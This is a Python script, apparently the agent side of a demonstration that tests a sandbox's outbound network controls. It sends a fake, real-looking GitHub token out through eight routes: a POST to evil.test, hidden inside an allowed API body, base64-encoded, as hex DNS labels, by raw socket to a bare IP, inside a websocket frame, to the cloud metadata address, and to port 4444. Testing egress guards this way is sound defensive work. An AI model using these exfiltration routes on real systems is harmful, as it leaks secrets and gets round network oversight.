#!/usr/bin/python3
"""The agent of the demonstration, run in the locked room. It does its work with the key that it was given, which is a
placeholder, then tries to carry something out in eight ways. One JSON line on stdout for each: what the agent itself gets."""
import base64
import errno
import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.request

API = "api.demo.test"
LOOT = "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"  # has the form of a real token, and is none
SECONDS = 15


def http(url, body=None, headers=()):
    """Through the proxy that the environment names."""
    request = urllib.request.Request(url, data=body, headers=dict(headers))
    try:
        with urllib.request.urlopen(request, timeout=SECONDS) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def work():
    status, body = http("https://%s/v1/messages" % API, b'{"ask":"hello"}', {"x-api-key": os.environ["DEMO_KEY"]})
    return "%d, key %s" % (status, json.loads(body).get("your_key")), None


def refusal(status, body):
    return status, json.loads(body).get("txn")


def other_host():
    return refusal(*http("https://evil.test/collect", LOOT.encode()))


def in_a_body():
    return refusal(*http("https://%s/v1/messages" % API, b'{"note":"%s"}' % LOOT.encode()))


def in_base64():
    return refusal(*http("https://%s/v1/messages" % API, base64.b64encode(LOOT.encode())))


def in_a_name():
    try:
        return socket.gethostbyname(LOOT.encode().hex()[:60] + ".evil.test"), None
    except OSError as e:
        return type(e).__name__, None


def to_an_address():
    """No name, no proxy: as malware would."""
    with socket.create_connection(("203.0.113.7", 80), SECONDS) as s:
        s.sendall(b"POST / HTTP/1.1\r\nHost: 203.0.113.7\r\nContent-Length: %d\r\n\r\n%s" % (len(LOOT), LOOT.encode()))
        head, _, body = s.makefile("rb").read().partition(b"\r\n\r\n")
        return refusal(int(head.split()[1]), body)


def frame(text):
    """A masked text message of less than 126 bytes."""
    return bytes([0x81, 0x80 | len(text)]) + bytes(4) + text


def in_a_websocket():
    """Opened where it may, and then misused."""
    proxy = socket.create_connection(("127.0.0.1", 8080), SECONDS)
    proxy.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % ((API.encode(),) * 2))
    while b"\r\n\r\n" not in proxy.recv(4096):
        pass
    with ssl.create_default_context().wrap_socket(proxy, server_hostname=API) as s:
        s.sendall(b"GET /v1/live HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                  b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" % API.encode())
        answers = s.makefile("rb")
        while answers.readline() not in (b"\r\n", b""):
            pass
        s.sendall(frame(LOOT.encode()))
        closing = answers.read(2)
        text = answers.read(closing[1])
        return "closed, %d" % int.from_bytes(text[:2], "big"), text[2:].decode().split()[-1]


def to_metadata():
    return refusal(*http("http://169.254.169.254/latest/meta-data/"))


def by_a_socket():
    with socket.socket() as s:
        s.settimeout(SECONDS)
        return errno.errorcode.get(s.connect_ex(("203.0.113.9", 4444)), "open"), None


STEPS = {"its work, with a placeholder": work, "another host": other_host, "a secret in a body": in_a_body, "the same in base64": in_base64,
         "labels of a DNS name": in_a_name, "an address without a name": to_an_address, "a websocket message": in_a_websocket,
         "the cloud's metadata": to_metadata, "a socket of its own": by_a_socket}


def main():
    for title, step in STEPS.items():
        try:
            got, txn = step()
        except (OSError, ValueError, IndexError) as e:
            got, txn = "%s: %s" % (type(e).__name__, e), None
        print(json.dumps({"title": title, "got": str(got), "txn": txn}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
